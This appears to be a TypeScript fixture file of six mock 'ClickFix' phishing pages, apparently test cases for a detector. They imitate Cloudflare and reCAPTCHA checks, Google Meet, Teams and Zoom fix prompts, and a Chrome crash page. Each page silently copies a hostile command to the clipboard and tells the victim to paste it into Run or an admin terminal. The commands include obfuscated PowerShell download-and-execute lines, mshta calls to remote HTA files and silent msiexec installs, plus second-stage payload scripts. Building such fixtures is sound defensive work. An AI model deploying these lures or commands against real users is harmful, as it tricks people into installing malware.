import { htmlRoute, type Entry } from '../entry.js';
import { b64, css, doc, img, js, text } from '../parts/h-parts.js';

export const entries: Entry[] = [
  // h-cf-fake-turnstile-runbox
{
  id: 'h-cf-fake-turnstile-runbox',
  label: 'clickfix',
  kind: 'fake-captcha',
  url: 'https://www.northfield-garden-supply.com/blog/winter-pruning-guide/',
  body: doc({
    title: 'Winter Pruning Guide | Northfield Garden Supply',
    css: `body{margin:0;font-family:Georgia,serif;color:#333}.ov{position:fixed;inset:0;background:#fff;z-index:999;font-family:-apple-system,system-ui,"Segoe UI",Roboto,sans-serif;padding:8% 10%}.ov h1{font-size:2.4rem;font-weight:500}.bx{display:flex;align-items:center;gap:12px;border:1px solid #e0e0e0;background:#fafafa;width:300px;padding:16px;margin:24px 0}.bx input{width:26px;height:26px}.st{display:none;border:1px solid #e0e0e0;width:460px;padding:18px;background:#fafafa}.st ol li{margin:8px 0}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 5px;font-size:13px}.ft{position:absolute;bottom:20px;font-size:12px;color:#666}`,
    body: `<article style="max-width:700px;margin:40px auto"><h1>Winter pruning guide</h1><p>Late winter is the best time to prune most deciduous trees and shrubs…</p></article>
<div class="ov" id="ov"><h1>www.northfield-garden-supply.com</h1><p>Verify you are human by completing the action below.</p>
<div class="bx" id="bx"><input type="checkbox" id="cb"><label for="cb">Verify you are human</label><span style="margin-left:auto;font-size:10px;color:#555">CLOUDFLARE<br>Privacy · Terms</span></div>
<div class="st" id="st"><b>Verification steps</b><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>In the verification window, press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd> on your keyboard to finish</li></ol><p style="font-size:13px">You will observe and agree:<br><code>✅ "I am not a robot - reCAPTCHA Verification ID: <span id="vid"></span>"</code></p></div>
<p>www.northfield-garden-supply.com needs to review the security of your connection before proceeding.</p>
<div class="ft">Ray ID: <span id="ray"></span> · Performance &amp; security by Cloudflare</div></div>
<script src="/wp-content/plugins/wp-optimize-lite/assets/cache.min.js"></script>`,
  }),
  routes: {
    'www.northfield-garden-supply.com/wp-content/plugins/wp-optimize-lite/assets/cache.min.js': js(`(function(){var id=Math.floor(1000+Math.random()*9000);document.getElementById('vid').textContent=id;document.getElementById('ray').textContent=(Math.random().toString(16).slice(2,18));
var c='powershell -w h -nop -c "$u=\\'https://cdn-verify.northfield-static.com/v.txt\\';iex (iwr $u -UseBasicParsing).Content"';
var cmd=c+' # ✅ \\'\\'I am not a robot - reCAPTCHA Verification ID: '+id+'\\'\\'';
document.getElementById('cb').addEventListener('click',function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();try{navigator.clipboard.writeText(cmd)}catch(e){}
document.getElementById('bx').style.display='none';document.getElementById('st').style.display='block'})})();`),
    'cdn-verify.northfield-static.com/v.txt': text('$p="$env:TEMP\\\\svc.zip";iwr "https://cdn-verify.northfield-static.com/p.zip" -OutFile $p;Expand-Archive $p "$env:APPDATA\\\\svc" -Force;Start-Process "$env:APPDATA\\\\svc\\\\svc.exe"'),
  },
},
  // h-cf-google-meet-mic-fix
{
  id: 'h-cf-google-meet-mic-fix',
  label: 'clickfix',
  kind: 'fake-meeting-fix',
  url: 'https://meet.google.us-join.com/fzq-hrtn-xbe',
  body: doc({
    title: 'Meet - fzq-hrtn-xbe',
    css: `body{margin:0;background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial,sans-serif}.w{display:flex;gap:40px;max-width:1000px;margin:60px auto;align-items:center}.v{flex:1.4;height:360px;background:#3c4043;border-radius:10px;display:flex;align-items:center;justify-content:center;color:#9aa0a6}.j{flex:1;text-align:center}.j button{background:#8ab4f8;color:#202124;border:0;border-radius:20px;padding:12px 26px;font-size:15px}.er{position:fixed;inset:0;background:#000a;display:none;align-items:center;justify-content:center}.eb{background:#fff;color:#202124;border-radius:8px;width:460px;padding:24px}.eb button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 20px}kbd{background:#f1f3f4;border:1px solid #ccc;padding:1px 5px;border-radius:3px}`,
    body: `<div class="w"><div class="v">Camera is starting</div><div class="j"><h2>Ready to join?</h2><p>No one else is here</p><button onclick="j()">Join now</button><p style="font-size:13px">Other ways to join</p></div></div>
<div class="er" id="er"><div class="eb"><h3>⚠ Microphone access blocked</h3><p>Your browser is preventing Google Meet from accessing the microphone (error code: 0x80070003). Other participants will not hear you.</p><p><b>How to fix:</b></p><ol><li>Click <b>Copy fix</b></li><li>Right-click the <b>Windows</b> button and select <b>Windows PowerShell</b> (or Terminal)</li><li>Right-click inside the window to paste and press <kbd>Enter</kbd></li><li>Refresh this page</li></ol><button onclick="fx()">Copy fix</button> <span id="ok" style="color:#188038"></span></div></div>
<script>
function j(){document.getElementById('er').style.display='flex'}
function fx(){var s='$d=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("${b64("iex(New-Object Net.WebClient).DownloadString('https://meet-audio-driver.com/fix.ps1')")}"));iex $d';
navigator.clipboard.writeText('powershell.exe -NoProfile -WindowStyle Hidden -Command "'+s+'"').then(function(){document.getElementById('ok').textContent='Copied!'})}
setTimeout(j,2500);
</script>`,
  }),
  routes: { 'meet-audio-driver.com/fix.ps1': text('Start-Sleep 1') },
},
  // h-cf-teams-audio-de
{
  id: 'h-cf-teams-audio-de',
  label: 'clickfix',
  kind: 'fake-meeting-fix',
  url: 'https://teams-live.meeting-join.de.com/l/meetup-join/19%3ameeting_NjE4YzM',
  body: doc({
    lang: 'de',
    title: 'Microsoft Teams',
    css: `body{margin:0;background:#f5f5f5;font-family:"Segoe UI",Arial,sans-serif}.tb{background:#464775;color:#fff;padding:10px 20px;font-weight:600}.pre{max-width:760px;margin:50px auto;background:#fff;border-radius:6px;padding:30px;box-shadow:0 2px 8px #0002}.cam{height:260px;background:#292929;border-radius:4px;color:#bbb;display:flex;align-items:center;justify-content:center}.dlg{display:none;margin-top:20px;border:1px solid #c4314b;border-radius:4px;padding:16px;background:#fdf3f4}.dlg pre{background:#fff;border:1px solid #ddd;padding:8px;white-space:pre-wrap;word-break:break-all;font-size:12px}button{background:#5b5fc7;color:#fff;border:0;padding:10px 22px;border-radius:4px}`,
    body: `<div class="tb">Microsoft Teams</div><div class="pre"><h2>Wählen Sie Ihre Audio- und Videoeinstellungen für <i>Quartalsbesprechung Vertrieb</i></h2><div class="cam">Ihre Kamera ist ausgeschaltet</div>
<p><button onclick="go()">Jetzt teilnehmen</button></p>
<div class="dlg" id="dlg"><b>Audiotreiber-Fehler (0xC00D36B4)</b><p>Der Audiotreiber Ihres Geräts ist nicht mit der neuen Teams-Version kompatibel. So beheben Sie das Problem:</p>
<ol><li>Klicken Sie auf „Lösung kopieren“</li><li>Drücken Sie <b>Win + X</b> und wählen Sie <b>Terminal (Administrator)</b></li><li>Fügen Sie mit <b>Strg + V</b> ein und drücken Sie <b>Eingabe</b></li></ol>
<button id="cp">Lösung kopieren</button><pre id="cmd"></pre></div></div>
<script>
var x=['m','s','h','t','a'].join('')+' https://teams-audio-fix.de.com/driver/update.hta';
function go(){document.getElementById('dlg').style.display='block'}
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(x+'   # Microsoft Teams Audio Treiber Reparatur');this.textContent='Kopiert ✓'};
setTimeout(go,3000);
</script>`,
  }),
  routes: { 'teams-audio-fix.de.com/driver/update.hta': text('<html><head><HTA:APPLICATION id="x" windowstate="minimize"><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c iwr https://teams-audio-fix.de.com/driver/a.ps1|iex",0:window.close</script></head></html>', 'application/hta') },
},
  // h-cf-zoom-sdk-update
{
  id: 'h-cf-zoom-sdk-update',
  label: 'clickfix',
  kind: 'fake-meeting-fix',
  url: 'https://us05web.zoom-us.join-meeting.info/j/84410293382?pwd=cUZ3R0dFa0',
  body: doc({
    title: 'Launch Meeting - Zoom',
    css: `body{margin:0;font-family:Lato,Arial,sans-serif;background:#fff}.h{padding:14px 30px;border-bottom:1px solid #eee;color:#0b5cff;font-size:26px;font-weight:800}.c{max-width:600px;margin:60px auto;text-align:center}.c button{background:#0e72ed;color:#fff;border:0;border-radius:10px;padding:12px 30px;font-size:16px}.pop{display:none;text-align:left;border:1px solid #ddd;border-radius:10px;padding:20px;margin-top:30px;box-shadow:0 4px 16px #0002}code{display:block;background:#f6f7f9;padding:8px;font-size:12px;word-break:break-all}`,
    body: `<div class="h">zoom</div><div class="c"><h2>Click <b>Open Zoom Meetings</b> on the dialog shown by your browser</h2><p>If you don't see a dialog, click <b>Launch Meeting</b> below</p><button onclick="ln()">Launch Meeting</button>
<div class="pop" id="pp"><h3>Zoom Workplace SDK is out of date</h3><p>Meeting ID 844 1029 3382 requires Zoom SDK 6.3.1. Your version (5.17.5) cannot connect to this meeting.</p><p>Update using the Windows command line:</p><ol><li>Press <b>Win</b> + <b>R</b></li><li>Paste with <b>Ctrl</b> + <b>V</b> (the command was copied automatically)</li><li>Press <b>Enter</b>, then re-join</li></ol><code id="cc"></code></div></div>
<script>
var c='cmd /c "curl -s -L -o %TEMP%\\\\ZoomSDK_Update.msi https://zoom-sdk-cdn.join-meeting.info/6.3.1/ZoomSDK_Update.msi && msiexec /i %TEMP%\\\\ZoomSDK_Update.msi /qn"';
function ln(){document.getElementById('pp').style.display='block';document.getElementById('cc').textContent=c;navigator.clipboard.writeText(c).catch(function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()})}
document.addEventListener('click',function once(){ln();document.removeEventListener('click',once)});
</script>`,
  }),
},
  // h-cf-recaptcha-fr
{
  id: 'h-cf-recaptcha-fr',
  label: 'clickfix',
  kind: 'fake-captcha',
  url: 'https://streaming-vf-gratuit.fr/films/dune-deuxieme-partie',
  body: doc({
    lang: 'fr',
    title: 'Dune : Deuxième Partie en streaming VF HD',
    css: `body{margin:0;background:#111;color:#ddd;font-family:Arial,sans-serif}.pl{max-width:800px;margin:30px auto;height:420px;background:#000 center;display:flex;align-items:center;justify-content:center;font-size:80px;color:#fff;cursor:pointer}.cap{display:none;position:fixed;inset:0;background:#000c;align-items:center;justify-content:center}.cb{background:#fff;color:#222;width:400px;border-radius:3px;box-shadow:0 0 10px #000}.ch{background:#4a90e2;color:#fff;padding:20px}.ch b{font-size:20px}.cc{padding:18px;font-size:14px}.cc kbd{background:#eee;border:1px solid #aaa;padding:1px 4px;border-radius:3px}.cf{border-top:1px solid #ddd;padding:10px 18px;text-align:right}.cf button{background:#4a90e2;color:#fff;border:0;padding:9px 20px;text-transform:uppercase}`,
    body: `<h1 style="text-align:center">Dune : Deuxième Partie (2024) — VF HD</h1><div class="pl" onclick="v()">▶</div><p style="text-align:center">Lecteur 1 · Lecteur 2 · Uqload · Vidoza</p>
<div class="cap" id="cap"><div class="cb"><div class="ch">Vérification reCAPTCHA<br><b>Vérifiez que vous êtes humain</b></div><div class="cc"><p>Pour continuer, suivez ces étapes :</p><p>1. Appuyez sur <kbd>⊞ Win</kbd> + <kbd>R</kbd><br>2. Appuyez sur <kbd>Ctrl</kbd> + <kbd>V</kbd><br>3. Appuyez sur <kbd>Entrée</kbd></p><p style="font-size:12px;color:#666">Vous verrez : « Je ne suis pas un robot – ID de vérification reCAPTCHA : 4471 »</p></div><div class="cf"><button onclick="ok()">Vérifier</button></div></div></div>
<script>
var k="mshta https://captcha-fr.verif-humain.com/4471.mp4 # ✅ Je ne suis pas un robot - ID de vérification reCAPTCHA : 4471";
function v(){document.getElementById('cap').style.display='flex';navigator.clipboard.writeText(k).catch(function(){})}
function ok(){navigator.clipboard.writeText(k);alert('Vérification en cours… suivez les étapes indiquées.')}
document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain',k);e.preventDefault()});
</script>`,
  }),
  routes: { 'captcha-fr.verif-humain.com/4471.mp4': text('<script>close()</script>', 'video/mp4') },
},
  // h-cf-chrome-crash-terminal-admin
{
  id: 'h-cf-chrome-crash-terminal-admin',
  label: 'clickfix',
  kind: 'fix-error',
  url: 'https://chrome-support.browser-repair.com/err/STATUS_ACCESS_VIOLATION',
  body: doc({
    title: 'Aw, Snap! Something went wrong',
    css: `body{margin:0;background:#fff;font-family:"Segoe UI",Roboto,sans-serif;color:#202124}.c{max-width:600px;margin:100px auto}.ic{font-size:60px}.c h1{font-weight:400;font-size:24px}.c p{color:#5f6368}.fx{margin-top:30px;border:1px solid #dadce0;border-radius:8px;padding:20px}.fx button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 22px}pre{background:#f1f3f4;padding:10px;font-size:12px;white-space:pre-wrap;word-break:break-all}`,
    body: `<div class="c"><div class="ic">☹</div><h1>Aw, Snap!</h1><p>Something went wrong while displaying this webpage.</p><p>Error code: STATUS_ACCESS_VIOLATION</p>
<div class="fx"><b>Chrome has detected a corrupted DNS cache that causes repeated crashes.</b><p>Run the official repair command to flush the DNS cache and restore Chrome:</p><ol><li>Click <b>Copy repair command</b></li><li>Press <b>Win + X</b>, then click <b>Terminal (Admin)</b> and choose <b>Yes</b></li><li>Press <b>Ctrl + V</b> and <b>Enter</b></li><li>Reload this page</li></ol><button id="b">Copy repair command</button><pre id="p">ipconfig /flushdns</pre></div></div>
<script>
var shown='ipconfig /flushdns';var real='ipconfig /flushdns; $x=\\'h\\'+\\'ttps://browser-repair.com/chrome/r.ps1\\'; Start-Process powershell -ArgumentList \\'-w hidden -c "irm \\'+$x+\\' | iex"\\' -WindowStyle Hidden';
document.getElementById('b').onclick=function(){var t=document.createElement('textarea');t.value=real;t.style.position='fixed';t.style.opacity='0';document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();this.textContent='Copied!'};
</script>`,
  }),
},
];
